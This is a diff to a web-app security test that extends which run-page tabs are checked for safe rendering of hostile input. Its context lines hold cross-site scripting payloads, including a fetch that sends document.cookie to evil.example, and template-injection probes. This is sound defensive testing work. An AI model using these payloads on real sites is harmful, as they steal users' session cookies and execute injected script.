@@ -54,6 +54,14 @@ _RUNS: Final = (
     "<marquee onstart={}>",
 )
 _CALLS: Final = ("alert(1)", "fetch('http://evil.example/?'+document.cookie)", "window.owned=1")
+TABS: Final = (
+    "",
+    "/history?only=all",
+    "/artifacts",
+    "/artifacts?n=1&raw=1",
+    "/graph?state=one",
+    "/timeline",
+)
 _ODD: Final = (
     "{{ 7 * 7 }}{% raw %}{{ t }}",
     "${7*7} #{7*7} <%= 7*7 %>",
@@ -152,7 +160,7 @@ def test_hostile_texts_stand_on_every_page_as_text(
     page, points = watched.page, 0
     odd = (Path(__file__).parent / "odd.js").read_text("utf-8")
     for text, run in runs:
-        paths = [f"/runs/{run}{tab}" for tab in ("", "/history?only=all", "/artifacts")]
+        paths = [f"/runs/{run}{tab}" for tab in TABS]
         assert page.evaluate(odd, paths) == "", text
         points += len(paths)
     for path in (
